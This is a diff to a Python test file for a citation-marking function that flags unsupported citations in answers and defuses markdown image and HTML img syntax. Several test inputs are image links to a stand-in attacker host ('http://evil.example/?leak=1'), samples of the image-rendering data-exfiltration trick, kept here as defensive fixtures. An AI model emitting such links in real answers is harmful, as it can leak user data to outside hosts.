@@ -46,12 +46,27 @@ def cited(answer: str, step: int = 3, first: int = 1) -> tuple[str, list[tuple[i
         ("Sick leave is 20 days [2].", "Sick leave is 20 days [2].", [(2, "unknown", "model")]),
         ("Sick leave is 30 days [2].", "Sick leave is 30 days [2?].", [(2, "unsupported", "model")]),
         ("The moon shines over the quiet harbour.", "The moon shines over the quiet harbour.", []),
-        ("See [9] and [0].", "See  and .", []),
+        ("See [9].", "See [9?].", [(9, "unsupported", "model")]),
         (f"## {LEAVE}\n", f"## {LEAVE}\n", []),
         (f"| {LEAVE} |\n", f"| {LEAVE} |\n", []),
         (f"```\n{LEAVE}.\nx[1]\n```\n", f"```\n{LEAVE}.\nx[1]\n```\n", []),
         ("It is `x=a[1]` here.", "It is `x=a[1]` here.", []),
-        ("![x](http://evil.example/?leak=1)", "[x](http://evil.example/?leak=1)", []),
+        ("![x](http://evil.example/?leak=1)", "!\u2060[x](http://evil.example/?leak=1)", []),
+        ("!![x](http://evil.example/)", "!!\u2060[x](http://evil.example/)", []),
+        ("a ``` ![x](http://evil.example/)", "a ``` !\u2060[x](http://evil.example/)", []),
+        ("- a\n  ```\n![x](u)", "- a\n  ```\n!\u2060[x](u)", []),
+        ("```\n![x](u)\n```\n![x](u)", "```\n![x](u)\n```\n!\u2060[x](u)", []),
+        ("~~~\n```\n![x](u)", "~~~\n```\n![x](u)", []),
+        ("<img src=u> <IMG src=u> a<b <i>", "<\u2060img src=u> <\u2060IMG src=u> a<b <i>", []),
+        ("An open <im", "An open <\u2060im", []),
+        ("It is a[1](http://evil.example/)", "It is a[1]\u2060(http://evil.example/)", []),
+        (
+            f"{LEAVE} [1](http://evil.example/)",
+            f"{LEAVE} [1]\u2060(http://evil.example/)",
+            [(1, "supported", "model")],
+        ),
+        (f"{LEAVE} [1]: http://a", f"{LEAVE} [1]\u2060: http://a", [(1, "supported", "model")]),
+        ("Great![1]", "Great![1]", [(1, "unknown", "model")]),
         ("Wow! [link](https://a.example)", "Wow! [link](https://a.example)", []),
         ("An open [", "An open [", []),
         ("", "", []),
@@ -66,7 +81,7 @@ def test_an_answer_is_told_with_the_citations_that_hold(
 
 def test_numbers_begin_where_what_was_given_ends() -> None:
     assert cited(f"{LEAVE}.", first=3)[0] == f"{LEAVE}. [3]"
-    assert cited(f"{LEAVE} [1].", first=3)[0] == f"{LEAVE} . [3]"
+    assert cited(f"{LEAVE} [1].", first=3)[0] == f"{LEAVE} [1?]."
 
 
 def test_a_citation_tells_which_part_of_the_answer_it_is_for() -> None:
@@ -76,14 +91,14 @@ def test_a_citation_tells_which_part_of_the_answer_it_is_for() -> None:
     assert answer[one.start : one.end] == f"Good news. {LEAVE}."
 
 
-@given(st.text(alphabet="ab1 .!?[]`|#\n,", max_size=80), st.integers(1, 9))
+@given(st.text(alphabet="ab1 .!?[]`|#\n,<i(:~", max_size=80), st.integers(1, 9))
 def test_the_pieces_in_which_an_answer_comes_make_no_difference(answer: str, step: int) -> None:
     assert cited(answer, step) == cited(answer, 1000)
 
 
 @given(st.text(max_size=60))
 def test_of_what_cites_nothing_and_shows_no_picture_nothing_is_changed(answer: str) -> None:
-    answer = answer.replace("[", "").replace("![", "")
+    answer = answer.replace("[", "").replace("<", "")
     assert cited(answer)[0] == answer
 
 
